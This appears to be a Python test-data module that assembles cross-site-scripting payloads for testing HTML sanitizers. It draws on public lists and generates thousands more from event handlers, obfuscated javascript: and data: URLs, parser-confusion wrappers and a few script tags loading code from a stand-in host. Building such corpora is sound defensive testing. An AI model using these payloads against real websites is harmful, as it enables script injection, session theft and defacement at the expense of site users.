"""HTML that tries to run a script: three public lists, and what these rules generate.

The lists are in `lists/`, with their licences: DOMPurify's and loofah's test cases, and those of PayloadsAllTheThings.
"""

import json
import random
import re
from collections.abc import Iterator
from functools import cache
from pathlib import Path

_LISTS = Path(__file__).with_name("lists")
RUN = "alert(1)"

_EVENTS = [
    "abort",
    "afterprint",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforepaste",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "cancel",
    "canplay",
    "change",
    "click",
    "close",
    "command",
    "contextmenu",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "end",
    "ended",
    "error",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "fullscreenchange",
    "gotpointercapture",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointerdown",
    "pointerenter",
    "pointermove",
    "pointerover",
    "pointerup",
    "popstate",
    "progress",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "search",
    "securitypolicyviolation",
    "seeked",
    "select",
    "selectionchange",
    "selectstart",
    "show",
    "stalled",
    "start",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchend",
    "touchmove",
    "touchstart",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unhandledrejection",
    "unload",
    "volumechange",
    "waiting",
    "wheel",
]
# Elements that fire events by themselves, or that a reader touches. {} is the handler with its separator.
_CARRIERS = (
    "<img src=x{}>", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='{}>", "<body{}>", "<svg{}>x</svg>",
    "<svg><animate attributeName=x dur=1s{}></animate></svg>", "<details open{}>x</details>", "<a href=#{} autofocus>x</a>",
    "<input autofocus{} value=x>", "<video controls{}><source src=x></video>", "<marquee{}>x</marquee>",
    "<div style='animation:a 1s' tabindex=1 contenteditable{}>x<style>@keyframes a{{from{{left:0}}}}</style></div>",
    "<button autofocus{}>x</button>", "<select autofocus{}><option>x</select>", "<math{}><mi>x</mi></math>", "<x{} tabindex=1>x</x>",
    "<iframe{}></iframe>", "<style{}></style>", "<link rel=stylesheet href='data:text/css,'{}>",
)  # fmt: skip
_SEPARATORS = (" on{}={}", "/on{}='{}'", '\x0con{}="{}"', " ON{} = {}", "\non{}=`{}`", "'on{}={}")

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}", "java&#10;script:{}",
    "&#106;avascript:{}", "&#x6A;avascript&colon;{}", "&#0000106avascript:{}", "javascript&#58;{}", "javascript:/*x*/{}",
    "javascript://%0a{}", "javascript:\u2028{}", "\u00a0javascript:{}", "javascript\x0b:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}", "blob:null/{}", "about:blank#{}", "//x/..;javascript:{}",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', '<a href="{}" target=_self>x</a>', '<a href="{}" target=_top>x</a>', '<area href="{}">',
    '<map name=m><area href="{}" shape=default></map><img usemap=#m src=x width=90 height=40>', '<iframe src="{}"></iframe>',
    '<embed src="{}">', '<object data="{}"></object>', '<form action="{}"><input type=submit value=x></form>',
    '<form><button formaction="{}">x</button></form>', '<svg><a href="{}"><text y=20>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<math><mtext href="{}">x</mtext></math>', '<base href="{}"><a href=#>x</a>',
    '<meta http-equiv=refresh content="0;url={}">', '<img src="{}">', '<body background="{}">', '<link rel=stylesheet href="{}">',
    '<svg><use href="{}"/></svg>', '<svg><set attributeName=href to="{}"/></svg>', '<isindex action="{}" type=submit>',
    '<svg><a><animate attributeName=href values="{}"/><text y=20>x</text></a></svg>', '<video poster="{}">', '<frameset><frame src="{}">',
    '<div style="background:url({})">x</div>', '<script src="{}"></script>', '<portal src="{}">', '<table background="{}"><td>x</table>',
)  # fmt: skip

_CORES = (
    "<script>{}</script>", "<SCRIPT >{}</SCRIPT >", "<script/x>{}</script>", "<scr<script>ipt>{}</script>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><script>&#97;lert(1)</script>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe onload={}></iframe>", "<object data='data:text/html,<script>{}</script>'></object>", "<details open ontoggle={}>x",
    "<script src=https://scripts.example/x.js></script>", "<script type=module>{}</script>", "<script>import('https://scripts.example/m.js')</script>",
    "<link rel=import href=https://scripts.example/x.html>", "<math><mtext><script>{}</script></mtext></math>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>", "<input autofocus onfocus={}>", "<video src=x onerror={}></video>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>", "<marquee onstart={}>x</marquee>", "<style onload={}></style>",
    "<a href=javascript:{}>x</a>", "<template shadowrootmode=open><img src=x onerror={}></template>", "<xml><script>{}</script></xml>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<embed src='data:text/html,<script>{}</script>'>",
    "<img src=`x` onerror={}>", "<img src=x:x onerror\x00={}>", "<form id=x></form><button form=x formaction=javascript:{}>x",
)  # fmt: skip
# What a parser may read otherwise than its neighbour; {} is the core.
_WRAPPERS = (
    "{}", "<p>{}</p>", "<!--{}-->", "<!-->{}-->", "<!--->{}", "<!--x--!>{}", "<![CDATA[{}]]>", "<svg><![CDATA[</svg>{}]]></svg>",
    "<noscript><p title=\"</noscript>{}\">", "<noscript>{}</noscript>", "<style>{}</style>", "<style></style{}>", "<style><!--</style>{}-->",
    "<title>{}</title>", "<title></title>{}</title>", "<textarea>{}</textarea>", "<textarea></textarea>{}", "<xmp>{}</xmp>",
    "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<iframe>{}</iframe>", "<plaintext>{}", "<template>{}</template>",
    "<select>{}</select>", "<select><option>{}</option></select>", "<table>{}</table>", "<table><tr>{}</tr></table>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{}\">", "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<svg><style>{}</style></svg>", "<svg><title><style>{}</style></title></svg>", "<svg><desc>{}</desc></svg>", "<svg></p><style><a id=\"</style>{}\">",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<math><mi><style>{}</style></mi></math>", "<a title=\"{}\">x</a>", "<a title='{}'>x",
    "<a title=`{}`>x", "\">{}", "'>{}", "</textarea></title></style></script>{}", "<b><i></b>{}</i>", "<p/{}", "<![if IE]>{}<![endif]>",
    "<!--[if gte IE 4]>{}<![endif]-->", "<?xml version='1.0'?>{}", "<?php {} ?>", "<!DOCTYPE x [{}]>", "</p></br>{}", "\ufeff{}", "\x00{}",
    "<frameset></frameset>{}", "<body>{}</body></html>{}", "<dialog open>{}</dialog>", "<object><param>{}</object>", "<ruby><rt>{}</ruby>",
    "<svg><a>{}</a></svg>", "<h1><svg><h2>{}", "<li><li>{}<ol>", "<button><button>{}", "<nobr><nobr>{}",
)  # fmt: skip


def generated() -> Iterator[str]:
    """Return our own: handlers, targets, and scripts where parsers may disagree."""
    for carrier in _CARRIERS:
        for number, event in enumerate(_EVENTS):
            for separator in (_SEPARATORS[0], _SEPARATORS[1 + number % 5], _SEPARATORS[1 + (number + 2) % 5]):
                yield carrier.format(separator.format(event, RUN))
    for place in _PLACES:
        for scheme in _SCHEMES:
            yield place.format(scheme.format(RUN))
    for wrapper in _WRAPPERS:
        for core in _CORES:
            yield wrapper.replace("{}", core.replace("{}", RUN))


@cache
def collected() -> tuple[str, ...]:
    """Return the public lists, each payload once."""
    text = (_LISTS / "loofah.json").read_text("utf-8")
    loofah = re.sub(r"^ *(/\*.*\*/)|(?<=[\",]) /\*.*\*/$", "", text, flags=re.MULTILINE)
    found = [case["input"] for case in json.loads(loofah)]
    found += [case["payload"] for case in json.loads((_LISTS / "DOMPurify.json").read_text("utf-8"))]
    found += (_LISTS / "PayloadsAllTheThings.txt").read_text("utf-8").splitlines()
    return tuple(dict.fromkeys(filter(None, found)))


@cache
def payloads() -> tuple[str, ...]:
    """Return everything, each once."""
    return tuple(dict.fromkeys((*collected(), *generated())))


def sample(size: int, seed: int = 0) -> list[str]:
    """Return a sample: a third of it from the lists, and of each of our own rules some."""
    choose = random.Random(seed)
    own = list(dict.fromkeys(generated()))
    return choose.sample(collected(), size // 3) + [
        own[number] for number in sorted(choose.sample(range(len(own)), size - size // 3))
    ]
